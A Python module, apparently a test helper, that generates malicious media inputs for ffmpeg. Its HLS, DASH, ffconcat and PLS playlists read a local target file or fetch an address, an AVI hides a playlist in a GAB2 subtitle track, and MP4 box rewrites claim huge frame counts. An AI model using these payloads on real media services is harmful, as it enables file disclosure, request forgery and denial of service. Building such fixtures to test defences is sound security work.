"""Files made to do harm, as small as they can be."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

HLS = "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{}\n#EXT-X-ENDLIST\n"
DASH = (
    '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
    'mediaPresentationDuration="PT2S"><Period><AdaptationSet mimeType="video/mp4">'
    '<Representation id="1" bandwidth="1"><BaseURL>{}</BaseURL>'
    "</Representation></AdaptationSet></Period></MPD>"
)


def lists(target: Path, address: str) -> dict[str, bytes]:
    """Lists that make an unguarded ffmpeg read `target`, or ask `address`."""
    found = {
        "hls, absolute": HLS.format(target),
        "hls, a file: address": HLS.format(f"file://{target}"),
        "hls, a neighbour": HLS.format(target.name),
        "hls, joined": HLS.format(f"concat:{target}|{target}"),
        "hls, http": HLS.format(address),
        "ffconcat, a neighbour": f"ffconcat version 1.0\nfile {target.name}\n",
        "ffconcat, absolute": f"ffconcat version 1.0\nfile '{target}'\n",
        "ffconcat, http": f"ffconcat version 1.0\nfile '{address}'\n",
        "concat without its name": f"file '{target}'\n",
        "dash, absolute": DASH.format(target),
        "dash, http": DASH.format(address),
        "pls": f"[playlist]\nFile1={target}\nNumberOfEntries=1\n",
        "sdp": "v=0\nc=IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\n",
    }
    return {name: text.encode() for name, text in found.items()}


def archive(film: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as pack:
        pack.writestr("session.mp4", film)
    return made.getvalue()


def box(name: bytes, content: bytes) -> bytes:
    return (8 + len(content)).to_bytes(4, "big") + name + content


def rebuilt(data: bytes, changes: dict[bytes, bytes]) -> bytes:
    """An MP4 with the contents of some boxes exchanged, wherever they are."""
    made, at = b"", 0
    while at < len(data):
        size, name = int.from_bytes(data[at : at + 4], "big"), data[at + 4 : at + 8]
        content = data[at + 8 : at + size]
        if name in (b"moov", b"trak", b"mdia", b"minf", b"stbl"):
            content = rebuilt(content, changes)
        made += box(name, changes.get(name, content))
        at += size
    return made


def _riff(name: bytes, content: bytes) -> bytes:
    return name + len(content).to_bytes(4, "little") + content + bytes(len(content) % 2)


def with_titles(avi: bytes, titles: bytes) -> bytes:
    """The same AVI with a track of titles in it, a file within the file (GAB2): libav looks what
    kind of file that is, and once followed a playlist there."""
    made, at = b"", 12
    while at < len(avi):
        name, size = avi[at : at + 4], int.from_bytes(avi[at + 4 : at + 8], "little")
        content = avi[at + 8 : at + 8 + size]
        at += 8 + size + size % 2
        if content[:4] == b"hdrl":
            tracks = int.from_bytes(content[36:40], "little")
            head = _riff(b"strh", b"txts" + bytes(16) + b"\1\0\0\0" * 2 + bytes(28))
            content = content[:36] + (tracks + 1).to_bytes(4, "little") + content[40:]
            content += _riff(b"LIST", b"strl" + head + _riff(b"strf", b""))
        elif content[:4] == b"movi":
            told = b"GAB2\0\2\0" + (2).to_bytes(4, "little") + b"\0\0\4\0"
            told += len(titles).to_bytes(4, "little") + titles
            content = b"movi" + _riff(b"%02dtx" % tracks, told) + content[4:]
        if name != b"idx1":
            made += _riff(name, content)
    return _riff(b"RIFF", b"AVI " + made)


def of_many_pictures(film: bytes, pictures: int) -> bytes:
    """A film of a kilobyte or two that says it has so many, all of the same bytes."""
    count = pictures.to_bytes(4, "big")
    one, zero = (1).to_bytes(4, "big"), bytes(4)
    return rebuilt(
        film,
        {
            b"stts": zero + one + count + one,
            b"stsz": zero + one + count,
            b"stsc": zero + one + one + count + one,
            b"stco": zero + one + (48).to_bytes(4, "big"),
            b"ctts": zero + zero,
            b"edts": b"",
        },
    )
